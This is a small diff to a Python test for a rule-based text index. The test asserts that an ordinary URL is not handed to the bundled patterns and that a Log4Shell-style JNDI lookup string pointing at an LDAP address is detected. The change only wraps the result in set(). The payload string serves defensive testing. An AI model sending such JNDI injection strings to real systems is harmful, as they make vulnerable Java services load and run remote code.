@@ -89,4 +89,4 @@ def test_usual_addresses_are_not_handed_to_the_patterns_of_the_bundled_rules() -
     patterns = [each.strip("'").encode() for each in rules[start + 1 : rules.index("]\n", start)].split("', '")]
     index = TextIndex([(TextKind.REGEX, pattern, 7) for pattern in patterns])
     assert not index._may_find(b"https://example.org/profiles/17?page=2&sort=name")
-    assert index.find(b"/?x=${jndi:ldap://198.51.100.9/a}") == {7}
+    assert set(index.find(b"/?x=${jndi:ldap://198.51.100.9/a}")) == {7}
